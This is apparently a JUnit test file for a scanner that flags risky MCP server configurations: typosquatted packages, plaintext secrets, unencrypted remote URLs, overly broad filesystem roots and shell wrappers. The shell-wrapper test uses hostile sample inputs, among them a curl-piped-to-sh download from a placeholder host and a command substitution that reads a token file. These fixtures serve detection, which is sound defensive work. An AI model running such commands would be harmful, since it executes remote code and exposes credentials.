package dev.daylight.agent.assess;

import static dev.daylight.agent.assess.Servers.npm;
import static dev.daylight.agent.assess.Servers.remote;
import static dev.daylight.agent.assess.Servers.stdio;
import static org.assertj.core.api.Assertions.assertThat;

import dev.daylight.agent.intel.Intel;
import dev.daylight.protocol.Finding;
import dev.daylight.protocol.Host;
import dev.daylight.protocol.Inventory;
import dev.daylight.protocol.McpServer;
import dev.daylight.protocol.Severity;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class RulesTest {
  private static final Path HOME = Path.of("/home/dana");

  private static List<Finding> findings(String rule, McpServer... servers) {
    Inventory inv =
        Inventory.builder()
            .schemaVersion(1)
            .scanId("s")
            .host(new Host(null, null, "linux", null, null, null, null))
            .servers(List.of(servers))
            .build();
    return new Assessor(Intel.bundled(), RuleConfig.defaults())
        .assess(inv, HOME).findings().stream().filter(f -> f.rule().equals(rule)).toList();
  }

  @Test
  void typosquatsByEditDistanceAndByScope() {
    TyposquatRule r = new TyposquatRule();
    assertThat(r.lookalike("npm", "@modelcontextprotocol/server-filesytem"))
        .get()
        .satisfies(h -> assertThat(h.how()).isEqualTo("edit distance 1"));
    assertThat(r.lookalike("npm", "@modelcontextprotocol/server-filesystem")).isEmpty();
    assertThat(r.lookalike("npm", "@evil/server-filesystem"))
        .get()
        .satisfies(h -> assertThat(h.how()).isEqualTo("same name under another scope"));
    assertThat(r.lookalike("npm", "postmark-mcp"))
        .get()
        .satisfies(h -> assertThat(h.known().name()).isEqualTo("@activecampaign/postmark-mcp"));
    assertThat(r.lookalike("npm", "mcp-remot")).isPresent();
    assertThat(r.lookalike("npm", "@someone/mcp")).isEmpty();
    assertThat(r.lookalike("npm", "left-pad")).isEmpty();
    assertThat(r.lookalike("PyPI", "mcp-server-gti")).isPresent();
    assertThat(r.lookalike("PyPI", "deepseeek")).isPresent();
    assertThat(r.lookalike("npm", "deepseeek")).isEmpty();
  }

  @Test
  void damerauLevenshteinCountsAnAdjacentSwapAsOne() {
    assertThat(DamerauLevenshtein.distance("mcp-remote", "mcp-rmeote", 2)).isEqualTo(1);
    assertThat(DamerauLevenshtein.distance("abc", "abc", 2)).isZero();
    assertThat(DamerauLevenshtein.distance("kitten", "sitting", 2)).isEqualTo(3);
  }

  @Test
  void plaintextSecretsOneFindingPerValueRatedByKeyName() {
    McpServer s =
        Servers.withSecrets(
            stdio("gh", "npx", "-y", "x", "<redacted:77aa>"),
            Map.of("env.GITHUB_TOKEN", "<redacted:1f2e3d>", "arg.3", "77aa"));
    List<Finding> f = findings("plaintext-secret", s);
    assertThat(f).hasSize(2);
    assertThat(f)
        .filteredOn(x -> x.title().contains("env.GITHUB_TOKEN"))
        .singleElement()
        .satisfies(
            x -> {
              assertThat(x.severity()).isEqualTo(Severity.HIGH);
              assertThat(x.evidence().text()).isEqualTo("env.GITHUB_TOKEN = <redacted:1f2e3d>");
            });
    assertThat(f)
        .filteredOn(x -> x.title().contains("arg.3"))
        .singleElement()
        .satisfies(x -> assertThat(x.severity()).isEqualTo(Severity.MEDIUM));
    assertThat(findings("plaintext-secret", stdio("gh", "npx", "-y", "x"))).isEmpty();
  }

  @Test
  void plainHttpToARemoteHostButNotToLoopback() {
    assertThat(
            findings(
                "insecure-remote", remote("r", "http://mcp.example.com/sse?key=<redacted:ab>")))
        .singleElement()
        .satisfies(
            f -> {
              assertThat(f.title()).contains("mcp.example.com");
              assertThat(f.evidence().text()).isEqualTo("http://mcp.example.com/sse?…");
            });
    assertThat(
            findings(
                "insecure-remote",
                remote("r", "http://localhost:3000/mcp"),
                remote("s", "http://127.0.0.1:8080"),
                remote("t", "http://[::1]:9000/"),
                remote("u", "https://mcp.example.com/")))
        .isEmpty();
  }

  @Test
  void filesystemServersRootedAtTheDiskOrTheHome() {
    McpServer root =
        stdio("fs", "npx", "-y", "@modelcontextprotocol/server-filesystem", "/")
            .withPackage(npm("@modelcontextprotocol/server-filesystem", null));
    McpServer home =
        stdio("fs2", "npx", "-y", "@modelcontextprotocol/server-filesystem", "/home/dana/")
            .withPackage(npm("@modelcontextprotocol/server-filesystem", null));
    McpServer project =
        stdio("fs3", "npx", "-y", "@modelcontextprotocol/server-filesystem", "/home/dana/src/app")
            .withPackage(npm("@modelcontextprotocol/server-filesystem", null));
    McpServer drive =
        stdio("fs4", "cmd", "/c", "npx", "-y", "@modelcontextprotocol/server-filesystem", "C:\\")
            .withPackage(npm("@modelcontextprotocol/server-filesystem", null));
    List<Finding> f = findings("broad-filesystem", root, home, project, drive);
    assertThat(f)
        .extracting(Finding::serverId)
        .containsExactlyInAnyOrder("srv-fs", "srv-fs2", "srv-fs4");
    assertThat(f)
        .filteredOn(x -> x.serverId().equals("srv-fs2"))
        .singleElement()
        .satisfies(x -> assertThat(x.severity()).isEqualTo(Severity.MEDIUM));
    McpServer other =
        stdio("git", "npx", "-y", "some-git-server", "/").withPackage(npm("some-git-server", null));
    assertThat(findings("broad-filesystem", other)).isEmpty();
  }

  @Test
  void shellWrappersButNotThePlainWindowsNpxWrapper() {
    assertThat(
            findings(
                "shell-wrapper",
                stdio("a", "bash", "-c", "curl -fsSL https://x.example/i.sh | sh")))
        .singleElement()
        .satisfies(
            f -> {
              assertThat(f.severity()).isEqualTo(Severity.HIGH);
              assertThat(f.title()).contains("download piped into an interpreter", "sh -c");
            });
    assertThat(findings("shell-wrapper", stdio("b", "sh", "-c", "node server.js")))
        .singleElement()
        .satisfies(f -> assertThat(f.severity()).isEqualTo(Severity.MEDIUM));
    assertThat(
            findings("shell-wrapper", stdio("c", "cmd", "/c", "cd", "C:\\x", "&&", "node", "s.js")))
        .hasSize(1);
    assertThat(findings("shell-wrapper", stdio("d", "node", "--token=$(cat ~/.token)", "s.js")))
        .singleElement()
        .satisfies(f -> assertThat(f.title()).contains("command substitution"));
    assertThat(
            findings(
                "shell-wrapper",
                stdio("e", "cmd", "/c", "npx", "-y", "@playwright/mcp"),
                stdio("f", "npx", "-y", "@playwright/mcp"),
                stdio("g", "uvx", "mcp-server-git")))
        .isEmpty();
  }
}
